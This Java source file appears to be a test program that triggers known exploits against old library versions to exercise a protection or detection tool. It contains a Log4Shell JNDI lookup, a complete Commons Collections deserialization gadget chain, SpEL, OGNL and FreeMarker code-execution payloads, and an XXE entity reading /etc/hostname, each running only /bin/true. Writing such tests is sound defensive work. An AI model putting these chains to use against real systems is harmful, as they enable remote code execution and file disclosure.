package whorl.dist.program;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.StringWriter;
import java.io.Writer;
import java.lang.reflect.Array;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;

/**
 * Attacks old versions of libraries, which are on its class path but not on the compiler's, with
 * payloads that do no harm; then waits for a file {@code done} in the folder it is given. The
 * system property {@code attack} says which.
 */
public final class OldLibraries {
  private OldLibraries() {}

  public static void main(String[] arguments) throws Exception {
    Recorded.await();
    for (String attack : System.getProperty("attack").split(",")) {
      switch (attack) {
        case "log4j" -> log4j();
        case "collections" -> collections();
        case "spel" -> spel("new java.lang.ProcessBuilder({'/bin/true'}).start()", true);
        case "spel-flood" -> flood();
        case "ognl" -> ognl();
        default -> engines();
      }
    }
    Signal.await(Path.of(arguments[0]).resolve("done"));
  }

  /** A text from outside is logged (CVE-2021-44228). */
  private static void log4j() throws Exception {
    Object logger =
        Class.forName("org.apache.logging.log4j.LogManager")
            .getMethod("getLogger", String.class)
            .invoke(null, "shop");
    Class.forName("org.apache.logging.log4j.Logger")
        .getMethod("error", String.class)
        .invoke(logger, "${jndi:" + System.getProperty("ldap") + "}");
  }

  /**
   * A set whose element's hash is a chain of calls (as in COLLECTIONS-580), which starts {@code
   * /bin/true} when it is read.
   */
  private static void collections() throws Exception {
    String functors = "org.apache.commons.collections.functors.";
    Class<?> transformer = Class.forName("org.apache.commons.collections.Transformer");
    Object steps = Array.newInstance(transformer, 4);
    Array.set(
        steps,
        0,
        Class.forName(functors + "ConstantTransformer")
            .getConstructor(Object.class)
            .newInstance(Runtime.class));
    Array.set(
        steps,
        1,
        call(
            "getMethod",
            new Class<?>[] {String.class, Class[].class},
            "getRuntime",
            new Class<?>[0]));
    Array.set(
        steps,
        2,
        call("invoke", new Class<?>[] {Object.class, Object[].class}, null, new Object[0]));
    Array.set(steps, 3, call("exec", new Class<?>[] {String.class}, "/bin/true chained"));
    Object chain =
        Class.forName(functors + "ChainedTransformer")
            .getConstructor(steps.getClass())
            .newInstance(Array.newInstance(transformer, 0));
    Map<Object, Object> inner = new HashMap<>();
    Object lazy =
        Class.forName("org.apache.commons.collections.map.LazyMap")
            .getMethod("decorate", Map.class, transformer)
            .invoke(null, inner, chain);
    HashSet<Object> set = new HashSet<>();
    set.add(
        Class.forName("org.apache.commons.collections.keyvalue.TiedMapEntry")
            .getConstructor(Map.class, Object.class)
            .newInstance(lazy, "key"));
    inner.clear();
    Field field = chain.getClass().getDeclaredField("iTransformers");
    field.setAccessible(true);
    field.set(chain, steps);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(set);
    }
    try (ObjectInputStream in =
        new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
      System.out.println(in.readObject().getClass());
    }
  }

  private static Object call(String method, Class<?>[] types, Object... arguments)
      throws ReflectiveOperationException {
    return Class.forName("org.apache.commons.collections.functors.InvokerTransformer")
        .getConstructor(String.class, Class[].class, Object[].class)
        .newInstance(method, types, arguments);
  }

  private static void spel(String expression, boolean evaluate) throws Exception {
    Object parser =
        Class.forName("org.springframework.expression.spel.standard.SpelExpressionParser")
            .getConstructor()
            .newInstance();
    Method parse =
        Class.forName("org.springframework.expression.ExpressionParser")
            .getMethod("parseExpression", String.class);
    Object parsed = parse.invoke(parser, expression);
    if (evaluate) {
      Class.forName("org.springframework.expression.Expression")
          .getMethod("getValue")
          .invoke(parsed);
    }
  }

  /** As an application does that does not keep what it has parsed; the attack hides behind it. */
  private static void flood() throws Exception {
    for (int i = 0; i < 100_000; i++) {
      spel("name + '!'", false);
    }
    for (int i = 0; i < 5_000; i++) {
      spel("price * " + i, false);
    }
    spel("T(java.lang.Runtime).getRuntime().exec('/bin/true')", true);
  }

  private static void ognl() throws Exception {
    Class.forName("ognl.Ognl")
        .getMethod("getValue", String.class, Object.class)
        .invoke(null, "@java.lang.Runtime@getRuntime().exec('/bin/true ognl')", new Object());
  }

  /** Every other engine evaluates a sum. */
  private static void engines() throws Exception {
    invoke("org.mvel2.MVEL", "eval", String.class, "10 + 1");
    invoke("org.mvel2.MVEL", "eval", char[].class, "10 + 2".toCharArray());
    instance("groovy.lang.GroovyShell", "evaluate", "10 + 3");
    instance("bsh.Interpreter", "eval", "10 + 4");
    Object scripts =
        Class.forName("org.openjdk.nashorn.api.scripting.NashornScriptEngineFactory")
            .getMethod("getScriptEngine")
            .invoke(
                Class.forName("org.openjdk.nashorn.api.scripting.NashornScriptEngineFactory")
                    .getConstructor()
                    .newInstance());
    ((javax.script.ScriptEngine) scripts).eval("10 + 5");
    ((javax.script.ScriptEngine) scripts).eval(new java.io.StringReader("10 + 6"));
    Object jexl =
        Class.forName("org.apache.commons.jexl3.JexlBuilder")
            .getMethod("create")
            .invoke(
                Class.forName("org.apache.commons.jexl3.JexlBuilder")
                    .getConstructor()
                    .newInstance());
    Class<?> jexlEngine = Class.forName("org.apache.commons.jexl3.JexlEngine");
    jexlEngine.getMethod("createExpression", String.class).invoke(jexl, "10 + 7");
    jexlEngine.getMethod("createScript", String.class).invoke(jexl, "10 + 8");
    Object rhino = Class.forName("org.mozilla.javascript.Context").getMethod("enter").invoke(null);
    Object scope = rhino.getClass().getMethod("initStandardObjects").invoke(rhino);
    rhino
        .getClass()
        .getMethod(
            "evaluateString",
            Class.forName("org.mozilla.javascript.Scriptable"),
            String.class,
            String.class,
            int.class,
            Object.class)
        .invoke(rhino, scope, "10 + 9", "x", 1, null);
    Object processor = Class.forName("javax.el.ELProcessor").getConstructor().newInstance();
    processor.getClass().getMethod("eval", String.class).invoke(processor, "11 + 0");
    Object velocity =
        Class.forName("org.apache.velocity.app.VelocityEngine").getConstructor().newInstance();
    Class<?> context = Class.forName("org.apache.velocity.context.Context");
    velocity
        .getClass()
        .getMethod("evaluate", context, Writer.class, String.class, String.class)
        .invoke(
            velocity,
            Class.forName("org.apache.velocity.VelocityContext").getConstructor().newInstance(),
            new StringWriter(),
            "x",
            "#set($a = 11 + 1)");
    Class<?> configuration = Class.forName("freemarker.template.Configuration");
    Object template =
        Class.forName("freemarker.template.Template")
            .getConstructor(String.class, String.class, configuration)
            .newInstance(
                "x",
                "${11 + 2}${file.name}<#assign e='freemarker.template.utility.Execute'?new()>${e('/bin/true')}",
                configuration.getConstructor().newInstance());
    template
        .getClass()
        .getMethod("process", Object.class, Writer.class)
        .invoke(template, Map.of("file", new File("/srv/x")), new StringWriter());
    xerces();
    new ProcessBuilder(List.of("/bin/true", "last")).start().waitFor();
  }

  private static void xerces() throws Exception {
    var factory =
        (javax.xml.parsers.DocumentBuilderFactory)
            Class.forName("org.apache.xerces.jaxp.DocumentBuilderFactoryImpl")
                .getConstructor()
                .newInstance();
    String text = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>";
    factory
        .newDocumentBuilder()
        .parse(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)));
  }

  private static void invoke(String owner, String method, Class<?> type, Object source)
      throws ReflectiveOperationException {
    Class.forName(owner).getMethod(method, type).invoke(null, source);
  }

  private static void instance(String owner, String method, String source)
      throws ReflectiveOperationException {
    Object engine = Class.forName(owner).getConstructor().newInstance();
    engine.getClass().getMethod(method, String.class).invoke(engine, source);
  }
}
